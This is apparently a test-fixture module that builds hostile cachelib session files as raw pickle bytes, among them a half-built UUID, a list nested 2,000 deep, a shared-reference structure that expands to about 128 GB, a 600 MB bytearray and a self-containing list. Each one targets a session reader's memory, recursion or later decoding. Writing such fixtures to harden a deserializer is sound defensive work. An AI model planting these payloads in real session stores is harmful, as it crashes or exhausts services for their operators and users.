"""Hostile session files: the small inputs that cost a reader its process.

Each builder returns the bytes of one cachelib file (4-byte struct header,
then a pickle) that an attacker who can write the session directory could
plant. They are handcrafted opcode by opcode where Python's own pickler would
never write them.
"""

from __future__ import annotations

import pickle
import struct

HEADER = struct.pack("I", 0)  # expiry 0: never expires


def half_built_uuid() -> bytes:
    """``copyreg._reconstructor(uuid.UUID, object, None)`` with no BUILD: a UUID without its value.

    Decodes without error and fails the first time anything reads ``.int``
    (msgpack, str(), ==): an AttributeError far from the file that caused it.
    """
    payload = (b"(dp0\nVid\np1\nccopy_reg\n_reconstructor\np2\n"
               b"(cuuid\nUUID\np3\nc__builtin__\nobject\np4\nNtp5\nRp6\ns.")
    return HEADER + payload


def deep_list(depth: int = 2000) -> bytes:
    """A session whose one value is a list nested *depth* deep (4 KB for 2,000)."""
    payload = b"\x80\x04}\x8c\x01x" + b"]" * depth + b"a" * (depth - 1) + b"s."
    return HEADER + payload


def shared_expansion(levels: int = 7, width: int = 20) -> bytes:
    """Lists that reference one list *width* times per level: ~450 bytes, width**levels leaves.

    Pickle's memo keeps it tiny; any encoder without sharing (msgpack, JSON, a
    deep comparison) expands it to width**levels * 100 bytes (128 GB here).
    """
    value: object = ["A" * 100]
    for _ in range(levels):
        value = [value] * width
    return HEADER + pickle.dumps({"x": value}, 4)


def big_bytearray(size: int = 600_000_000) -> bytes:
    """``bytearray(600000000)`` in 47 bytes: 600 MB of zeros on decode."""
    payload = (b"\x80\x02}X\x01\x00\x00\x00xc__builtin__\nbytearray\nJ" + struct.pack("<i", size)
               + b"\x85Rs.")
    return HEADER + payload


def bare_object() -> bytes:
    """``NEWOBJ`` on ``builtins.object``: a meaningless ``object()`` in the session."""
    return HEADER + b"\x80\x02}X\x01\x00\x00\x00xc__builtin__\nobject\n)\x81s."


def cyclic_list() -> bytes:
    """A list that contains itself: every encoder but pickle loops or recurses forever."""
    value: list = []
    value.append(value)
    return HEADER + pickle.dumps({"x": value}, 4)


def many_empty_lists(count: int) -> bytes:
    """*count* empty lists in one list: one byte of input, ~64 bytes of memory each."""
    return HEADER + b"\x80\x04}\x8c\x01x](" + b"]" * count + b"es."


HOSTILE = {
    "half_built_uuid": half_built_uuid,
    "deep_list": deep_list,
    "shared_expansion": shared_expansion,
    "big_bytearray": big_bytearray,
    "bare_object": bare_object,
    "cyclic_list": cyclic_list,
}
